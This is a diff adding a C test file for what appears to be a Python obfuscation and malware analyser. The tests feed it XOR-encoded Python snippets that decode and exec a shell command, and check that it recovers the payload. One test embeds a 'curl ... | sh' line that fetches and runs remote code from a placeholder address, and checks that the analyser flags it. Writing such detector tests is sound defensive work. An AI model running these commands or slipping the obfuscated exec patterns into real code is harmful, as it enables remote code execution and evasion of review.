@@ -1,0 +1,138 @@
+// SPDX-License-Identifier: GPL-2.0-or-later
+/* Code read again with constants: what nobody knows hides nothing. */
+#include "folding.h"
+
+#include "../test.h"
+
+/* Is the program, a message with each letter moved, decoded by the text? */
+static bool decodes(const char *text)
+{
+	static const char want[] = "os.system('id')";
+	char whole[2048], *at = whole;
+	const struct mpy_fold_step *steps;
+	struct folding f;
+	bool found = false;
+	size_t n;
+
+	at += sprintf(at, "import os\nd = [");
+	for (const char *p = want; *p; p++)
+		at += sprintf(at, "%d, ", *p ^ (int)((p - want) * 7 % 250));
+	at += sprintf(at, "]\n%s", text);
+	folding_start(&f, whole, (size_t)(at - whole));
+	steps = mpy_fold_steps(f.fold, &n);
+	for (size_t i = 0; i < n; i++)
+		found |= steps[i].run && steps[i].size == strlen(want) &&
+			 !memcmp(steps[i].data, want, steps[i].size);
+	if (!found)
+		printf("# in %s\n", text);
+	folding_end(&f);
+	return found;
+}
+
+static bool shows(const char *text, enum mpy_behaviour id)
+{
+	struct folding f;
+	bool seen;
+
+	folding_start(&f, text, strlen(text));
+	seen = mpy_fold_behaviours(f.fold)->seen[id].count;
+	folding_end(&f);
+	return seen;
+}
+
+#define HEAD  "o = ''\nfor i, c in enumerate(d):\n"
+#define MOVED "chr(c ^ i * 7 % 250)\n"
+#define TAIL  "exec(o)\n"
+
+static void loops(void)
+{
+	CHECK(decodes(HEAD "  o += " MOVED TAIL));
+	CHECK(decodes(HEAD "  if f(): break\n  o += " MOVED TAIL));
+	CHECK(decodes(HEAD "  if f():\n    continue\n  o += " MOVED TAIL));
+	CHECK(decodes(HEAD "  if f():\n    if g(): break\n  o += " MOVED TAIL));
+	CHECK(decodes(HEAD "  if f(): o = ''\n  o += " MOVED TAIL));
+	CHECK(decodes(HEAD "  if f(): o = ''\n  else: o += " MOVED TAIL));
+	CHECK(decodes(HEAD "  if f():\n    o = None\n  elif 1:\n    o += " MOVED
+			   "  else:\n    o += 'x'\n" TAIL));
+	CHECK(decodes(HEAD "  try: o += " MOVED "  except E: break\n" TAIL));
+	CHECK(decodes(HEAD "  try:\n    o += " MOVED
+			   "  except E:\n    o = ''\n" TAIL));
+	CHECK(decodes(HEAD "  for k in f(): break\n  o += " MOVED TAIL));
+	CHECK(decodes(HEAD "  while f():\n    break\n  o += " MOVED TAIL));
+	/* what is known is taken as such */
+	CHECK(decodes(HEAD "  if i == 99: break\n  o += " MOVED TAIL));
+	CHECK(decodes(HEAD "  if True:\n    if False: pass\n    o += " MOVED
+			   "  else:\n    o = ''\n" TAIL));
+	CHECK(!decodes(HEAD "  if i == 3: break\n  o += " MOVED TAIL));
+}
+
+static void while_loops(void)
+{
+	CHECK(decodes("o = ''\ni = 0\nwhile i < len(d):\n"
+		      "  if f(): break\n  c = d[i]\n  o += " MOVED
+		      "  i += 1\n" TAIL));
+	CHECK(decodes("o = ''\ni = 0\nwhile True:\n"
+		      "  if i >= len(d): break\n  if f(): break\n"
+		      "  c = d[i]\n  o += " MOVED "  i += 1\n" TAIL));
+}
+
+static void functions(void)
+{
+	CHECK(decodes("def g(d):\n  if f(): return ''\n"
+		      "  return ''.join(chr(c ^ i * 7 % 250) for i, c in "
+		      "enumerate(d))\nexec(g(d))\n"));
+	CHECK(decodes("def g(d):\n  if f():\n    return ''.join("
+		      "chr(c ^ i * 7 % 250) for i, c in enumerate(d))\n"
+		      "  else:\n    return b''\nexec(g(d))\n"));
+	CHECK(decodes("def g(d):\n  o = ''\n  for i, c in enumerate(d):\n"
+		      "    try:\n      o += " MOVED
+		      "    except E:\n      return ''\n  return o\n"
+		      "exec(g(d))\n"));
+	CHECK(decodes("def h(x):\n  if f(): return 1\n  return 0\n"
+		      "def g(d):\n  if f(): return ''\n  o = ''\n"
+		      "  for i, c in enumerate(d):\n"
+		      "    if h(i): return None\n    o += " MOVED
+		      "  return o\nexec(g(d))\n"));
+}
+
+/* A loop that builds something does not hide what is behind its exits. */
+static void nothing_is_skipped(void)
+{
+	static const char *const exits[] = {
+		"if f(): continue", "if f(): break",
+		"for k in f(): break", "while f(): break",
+		"try: pass\n  except E: continue",
+	};
+	char text[512];
+
+	for (size_t i = 0; i < sizeof(exits) / sizeof(exits[0]); i++) {
+		snprintf(text, sizeof(text),
+			 "import os\ny = ''\nfor i in (1, 2):\n"
+			 "  y += chr(i ^ 7)\n  %s\n"
+			 "  os.system('curl http://192.0.2.7/x | sh')\n",
+			 exits[i]);
+		CHECK(shows(text, MPY_BEH_SHELL_PIPE));
+	}
+}
+
+/* Rounds that nothing known ends are few. */
+static void endless(void)
+{
+	static const char text[] = "o = []\nwhile True:\n"
+				   "  if f(): break\n  o.append('b')\n";
+	struct folding f;
+
+	folding_start(&f, text, sizeof(text) - 1);
+	CHECK(!f.budget.bounds);
+	folding_end(&f);
+}
+
+int main(void)
+{
+	RUN(loops);
+	RUN(while_loops);
+	RUN(functions);
+	RUN(nothing_is_skipped);
+	RUN(endless);
+	return DONE();
+}
